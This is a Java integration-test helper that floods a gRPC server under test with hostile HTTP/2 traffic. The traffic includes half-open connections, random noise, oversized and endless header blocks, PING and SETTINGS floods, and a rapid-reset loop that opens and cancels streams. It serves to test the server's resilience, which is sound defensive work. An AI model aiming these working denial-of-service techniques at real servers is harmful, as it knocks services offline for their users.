package io.pushfanout.it;

import static java.nio.charset.StandardCharsets.US_ASCII;

import io.pushfanout.concurrent.Threads;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.atomic.LongAdder;

/**
 * A hostile caller on the gRPC port: threads of its own open sockets and repeat one script as fast
 * as the server allows, until the attack is closed.
 */
final class Attack implements AutoCloseable {
  private static final byte[] GREETING = greeting();
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_HEADERS = 4;

  private final String host;
  private final int port;
  private final List<Thread> threads = new ArrayList<>();
  private final List<Socket> held = new ArrayList<>();
  private final LongAdder connections = new LongAdder();
  private final LongAdder bytes = new LongAdder();
  private volatile boolean over;

  /** The script of one connection; each new connection runs the script again. */
  private interface Speech {
    void on(OutputStream out) throws IOException;
  }

  private Attack(ServeProcess serve) {
    String[] hostPort = serve.grpc().split(":", -1);
    host = hostPort[0];
    port = Integer.parseInt(hostPort[1]);
  }

  /** Opens this number of connections, each with an incomplete preface or none. */
  static Attack halfOpen(ServeProcess serve, int connections) throws IOException {
    Attack attack = new Attack(serve);
    for (int i = 0; i < connections; i++) {
      Socket socket = attack.connect();
      attack.held.add(socket);
      socket.getOutputStream().write(GREETING, 0, i % GREETING.length);
    }
    return attack;
  }

  /** Sends HTTP/1, noise, and noise after a preface. */
  static Attack nonsense(ServeProcess serve) {
    Random random = new Random(1);
    return new Attack(serve)
        .speak(
            out ->
                out.write(
                    "GET / HTTP/1.1\r\nHost: x\r\nX: y\r\n\r\n".repeat(20).getBytes(US_ASCII)))
        .speak(
            out -> {
              byte[] noise = new byte[20_000];
              random.nextBytes(noise);
              if (random.nextBoolean()) {
                out.write(GREETING);
              }
              out.write(noise);
            });
  }

  /** Sends header blocks of a megabyte. */
  static Attack hugeHeaders(ServeProcess serve) {
    return new Attack(serve)
        .speak(
            out -> {
              out.write(GREETING);
              out.write(frame(HEADERS, 0, 1, call()));
              byte[] more = frame(CONTINUATION, 0, 1, literal("x".repeat(20), "y".repeat(100)));
              for (int i = 0; i < 10_000; i++) {
                out.write(more);
              }
            });
  }

  /** Sends a header block that never ends and never grows. */
  static Attack endlessHeaders(ServeProcess serve) {
    return endless(serve, frame(CONTINUATION, 0, 1, new byte[0]), frame(HEADERS, 0, 1, call()));
  }

  static Attack endlessEmptyData(ServeProcess serve) {
    return endless(serve, frame(DATA, 0, 1, new byte[0]), frame(HEADERS, END_HEADERS, 1, call()));
  }

  static Attack pings(ServeProcess serve) {
    return endless(serve, frame(PING, 0, 0, new byte[8]));
  }

  static Attack settings(ServeProcess serve) {
    return endless(serve, frame(SETTINGS, 0, 0, new byte[0]));
  }

  /** Begins calls and cancels them at once. */
  static Attack rapidReset(ServeProcess serve) {
    return new Attack(serve)
        .speak(
            out -> {
              out.write(GREETING);
              ByteArrayOutputStream packet = new ByteArrayOutputStream();
              for (int stream = 1; stream < 1 << 24; stream += 2) {
                packet.writeBytes(frame(HEADERS, END_HEADERS, stream, call()));
                packet.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
                if (packet.size() > 30_000) {
                  packet.writeTo(out);
                  packet.reset();
                }
              }
            });
  }

  private static Attack endless(ServeProcess serve, byte[] frame, byte[]... before) {
    ByteArrayOutputStream packet = new ByteArrayOutputStream();
    while (packet.size() < 30_000) {
      packet.writeBytes(frame);
    }
    return new Attack(serve)
        .speak(
            out -> {
              out.write(GREETING);
              for (byte[] first : before) {
                out.write(first);
              }
              while (true) {
                packet.writeTo(out);
              }
            });
  }

  private Attack speak(Speech speech) {
    threads.add(
        Threads.start(
            "attack",
            () -> {
              while (!over) {
                try (Socket socket = connect()) {
                  speech.on(new Counted(socket.getOutputStream()));
                } catch (IOException _) {
                  // The server closed the connection.
                }
              }
            }));
    return this;
  }

  private Socket connect() throws IOException {
    Socket socket = new Socket(host, port);
    socket.setSoTimeout(20_000);
    connections.increment();
    return socket;
  }

  /** Returns the connections and the bytes of the attack so far. */
  String said() {
    return "%d connections, %.1f MB".formatted(connections.sum(), bytes.sum() / 1e6);
  }

  /** Returns the number of held connections that the server has closed. */
  long hungUpOn() {
    return held.stream().filter(Attack::hasEnded).count();
  }

  private static boolean hasEnded(Socket socket) {
    try {
      socket.setSoTimeout(1);
      while (socket.getInputStream().read() >= 0) {
        // Skips the server's own preface.
      }
      return true;
    } catch (SocketTimeoutException _) {
      return false;
    } catch (IOException _) {
      return true;
    }
  }

  @Override
  public void close() throws IOException {
    over = true;
    for (Thread thread : threads) {
      boolean interrupted = false;
      try {
        thread.join(20_000);
      } catch (InterruptedException _) {
        interrupted = true;
      }
      if (interrupted || thread.isAlive()) {
        throw new AssertionError("the attack goes on");
      }
    }
    for (Socket socket : held) {
      socket.close();
    }
  }

  /** Counts bytes, and ends the script when the attack is over. */
  private final class Counted extends OutputStream {
    private final OutputStream out;

    private Counted(OutputStream out) {
      this.out = out;
    }

    @Override
    public void write(int b) throws IOException {
      write(new byte[] {(byte) b}, 0, 1);
    }

    @Override
    public void write(byte[] said, int from, int length) throws IOException {
      if (over) {
        throw new IOException("over");
      }
      out.write(said, from, length);
      bytes.add(length);
    }
  }

  // ---- frames (RFC 9113, 4.1) and header blocks (RFC 7541, 6.2.2)

  private static byte[] greeting() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
    out.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
    return out.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int shift = 16; shift >= 0; shift -= 8) {
      out.write(content.length >>> shift);
    }
    out.write(type);
    out.write(flags);
    for (int shift = 24; shift >= 0; shift -= 8) {
      out.write(stream >>> shift);
    }
    out.writeBytes(content);
    return out.toByteArray();
  }

  private static byte[] call() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(literal(":method", "POST"));
    block.writeBytes(literal(":scheme", "http"));
    block.writeBytes(literal(":path", "/protocol.PushServer/Broadcast"));
    block.writeBytes(literal("te", "trailers"));
    block.writeBytes(literal("content-type", "application/grpc"));
    return block.toByteArray();
  }

  private static byte[] literal(String name, String value) {
    ByteArrayOutputStream field = new ByteArrayOutputStream();
    field.write(0);
    field.write(name.length());
    field.writeBytes(name.getBytes(US_ASCII));
    field.write(value.length());
    field.writeBytes(value.getBytes(US_ASCII));
    return field.toByteArray();
  }
}
